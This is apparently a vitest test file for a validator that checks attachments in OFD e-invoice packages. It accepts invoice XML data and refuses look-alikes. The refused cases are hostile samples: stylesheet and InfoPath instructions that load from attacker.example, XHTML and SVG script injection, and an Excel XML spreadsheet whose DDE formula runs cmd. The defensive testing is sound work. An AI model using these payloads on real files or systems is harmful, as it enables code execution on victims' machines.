import { randomBytes } from 'node:crypto';
import { describe, expect, it } from 'vitest';
import { inspectStream } from '../../../../shared/validation/inspect.ts';
import { INVOICE_DATA, ofdAttachedData, ofdAttachmentEntry, ofdAttachmentList } from '../../../fixtures/active-ofd.ts';
import { chunked } from '../../../fixtures/files.ts';

/**
 * OFD attachments (shared/validation/ofd/attachments.ts): an e-invoice's structured data, an XML
 * file in the package, is accepted with a warning naming it; anything else attached is refused.
 */

async function inspect(bytes: Buffer, chunk = 64 * 1024) {
  const result = await inspectStream(chunked(bytes, chunk), {
    type: 'ofd',
    declaredSize: bytes.length,
    maxBytes: bytes.length,
  });
  return {
    findings: result.findings.map((f) => f.code),
    warnings: result.warnings.map((w) => [w.code, w.detail]),
  };
}

const DATA_LOOK_ALIKES: [string, () => Promise<Buffer>][] = [
  [
    'relative to its list, declared xml',
    () => ofdAttachedData('original_invoice.xml', 'Doc_0/Attachs/original_invoice.xml', INVOICE_DATA),
  ],
  [
    'from the package root, declared xbrl',
    () =>
      ofdAttachedData(
        '/Doc_0/Attachs/inv_ord_issuer_1.xml',
        'Doc_0/Attachs/inv_ord_issuer_1.xml',
        INVOICE_DATA,
        'xbrl',
      ),
  ],
  [
    'with a UTF-8 mark and no declaration',
    () => ofdAttachedData('data.xml', 'Doc_0/Attachs/data.xml', `\ufeff${INVOICE_DATA.replace(/^<\?xml[^>]*>\n/, '')}`),
  ],
  // The words the check looks for, as the invoice's text: data, not markup.
  [
    'whose text names a stylesheet and XHTML',
    () =>
      ofdAttachedData(
        'data.xml',
        'Doc_0/Attachs/data.xml',
        INVOICE_DATA.replace(
          '价税合计',
          '&lt;?xml-stylesheet href="x.xsl"?&gt; http://www.w3.org/1999/xhtml &lt;html&gt;',
        ),
      ),
  ],
  // Round 18: an instruction to Office written as the invoice's text, the format in capitals: data.
  [
    'whose text names an Office instruction, declared XBRL',
    () =>
      ofdAttachedData(
        'data.xml',
        'Doc_0/Attachs/data.xml',
        INVOICE_DATA.replace('价税合计', '&lt;?mso-application progid="Excel.Sheet"?&gt;'),
        'XBRL',
      ),
  ],
  // The same name beside the list and at the root: both data.
  [
    'stored under the same name at the package root too',
    () =>
      ofdAttachmentList(ofdAttachmentEntry('xml', 'data.xml'), [
        { name: 'Doc_0/Attachs/data.xml', data: INVOICE_DATA },
        { name: 'data.xml', data: INVOICE_DATA },
      ]),
  ],
];

describe('an e-invoice’s data attached to an OFD', () => {
  it.each(DATA_LOOK_ALIKES)('%s: VALID, warned of', async (_, build) => {
    const bytes = await build();
    for (const chunk of [7, 64 * 1024]) {
      expect(await inspect(bytes, chunk), `chunks of ${chunk}`).toEqual({
        findings: [],
        warnings: [['OFD_ATTACHED_DATA', { name: 'original_invoice' }]],
      });
    }
  });

  it.each([
    ['a PDF under an XML name', 'Doc_0/Attachs/data.xml', '%PDF-1.7\n%âãÏÓ\n'],
    ['XML under another name', 'Doc_0/Attachs/data.dat', INVOICE_DATA],
    [
      'a stylesheet instruction',
      'Doc_0/Attachs/data.xml',
      INVOICE_DATA.replace('?>\n', '?>\n<?xml-stylesheet type="text/xsl" href="https://attacker.example/x.xsl"?>'),
    ],
    [
      'an XHTML script inside the data',
      'Doc_0/Attachs/data.xml',
      INVOICE_DATA.replace('<Note>', '<h:script xmlns:h="http://www.w3.org/1999/xhtml">alert(1)</h:script><Note>'),
    ],
    [
      'the XHTML namespace written with a character reference',
      'Doc_0/Attachs/data.xml',
      INVOICE_DATA.replace(
        '<Note>',
        '<s xmlns="http://www.w3.org/1999/&#x78;html"><script>alert(1)</script></s><Note>',
      ),
    ],
    [
      'an SVG root',
      'Doc_0/Attachs/data.xml',
      `<svg xmlns='http://www.w3.org/2000/svg'><script>alert(1)</script></svg>`,
    ],
    ['an html root', 'Doc_0/Attachs/data.xml', '<?xml version="1.0"?><html><body>x</body></html>'],
    ['declared GBK', 'Doc_0/Attachs/data.xml', INVOICE_DATA.replace('UTF-8', 'GBK')],
    // Round 18: Office's XML handler opens a file by its mso-application instruction, in Excel
    // (an XML Spreadsheet's formulas call DDE), Word or InfoPath (which loads the form it names).
    [
      'an instruction to open it in Excel',
      'Doc_0/Attachs/data.xml',
      `<?xml version="1.0"?>\n<?mso-application progid="Excel.Sheet"?>\n<Workbook xmlns="urn:schemas-microsoft-com:office:spreadsheet" xmlns:ss="urn:schemas-microsoft-com:office:spreadsheet"><Worksheet ss:Name="x"><Table><Row><Cell ss:Formula="=cmd|' /c calc'!A0"/></Row></Table></Worksheet></Workbook>`,
    ],
    [
      'an InfoPath form instruction after the data’s root',
      'Doc_0/Attachs/data.xml',
      INVOICE_DATA.replace('</Invoice>', '</Invoice><?mso-infoPathSolution href="https://attacker.example/f.xsn"?>'),
    ],
  ])('%s: refused', async (_, entry, data) => {
    const loc = entry.endsWith('.dat') ? 'data.dat' : 'data.xml';
    expect((await inspect(await ofdAttachedData(loc, entry, data))).findings).toContain('OFD_ATTACHMENT');
  });

  it('accepts a Name with the extension of XML data (round 18)', async () => {
    const named = ofdAttachmentEntry('xml', 'data.xml').replace('original_invoice', 'original_invoice.xml');
    const bytes = await ofdAttachmentList(named, [{ name: 'Doc_0/Attachs/data.xml', data: INVOICE_DATA }]);
    expect(await inspect(bytes)).toEqual({
      findings: [],
      warnings: [['OFD_ATTACHED_DATA', { name: 'original_invoice.xml' }]],
    });
  });

  it('refuses data over the cap, a missing file, one without a location, and one of two locations that is no data', async () => {
    // Random text, so the entry does not inflate like a bomb.
    const big = INVOICE_DATA.replace('<Note>', `<Note>${randomBytes(800 * 1024).toString('base64')}`);
    const refused = [
      await ofdAttachedData('data.xml', 'Doc_0/Attachs/data.xml', big),
      await ofdAttachedData('missing.xml', 'Doc_0/Attachs/data.xml', INVOICE_DATA),
      await ofdAttachmentList('<ofd:Attachment ID="20" Name="original_invoice" Format="xml"/>', []),
      await ofdAttachmentList(ofdAttachmentEntry('xml', 'data.xml', 'a.pdf'), [
        { name: 'Doc_0/Attachs/data.xml', data: INVOICE_DATA },
        { name: 'Doc_0/Attachs/a.pdf', data: '%PDF-1.7\n' },
      ]),
      // Read from the package root, as a reader reading from there would, the name is a page.
      await ofdAttachmentList(ofdAttachmentEntry('xml', 'data.xml'), [
        { name: 'Doc_0/Attachs/data.xml', data: INVOICE_DATA },
        { name: 'data.xml', data: '<html><script>alert(1)</script></html>' },
      ]),
      // A location readers could resolve differently.
      await ofdAttachedData('./data.xml', 'Doc_0/Attachs/data.xml', INVOICE_DATA),
      await ofdAttachedData('data%2Exml', 'Doc_0/Attachs/data.xml', INVOICE_DATA),
      // Round 18: what a reader names the file it opens by says another program: a web page, an HTA.
      await ofdAttachedData('data.xml', 'Doc_0/Attachs/data.xml', INVOICE_DATA, 'html'),
      await ofdAttachmentList(ofdAttachmentEntry('xml', 'data.xml').replace('original_invoice', 'invoice.hta'), [
        { name: 'Doc_0/Attachs/data.xml', data: INVOICE_DATA },
      ]),
      await ofdAttachmentList(ofdAttachmentEntry('xml', 'data.xml').replace('Format=', 'x:Format="html" Format='), [
        { name: 'Doc_0/Attachs/data.xml', data: INVOICE_DATA },
      ]),
      await ofdAttachmentList(
        '<ofd:Attachment ID="20" Name="original_invoice"><ofd:FileLoc>data.xml</ofd:FileLoc></ofd:Attachment>',
        [{ name: 'Doc_0/Attachs/data.xml', data: INVOICE_DATA }],
      ),
    ];
    for (const bytes of refused) expect((await inspect(bytes)).findings).toEqual(['OFD_ATTACHMENT']);
  });
});
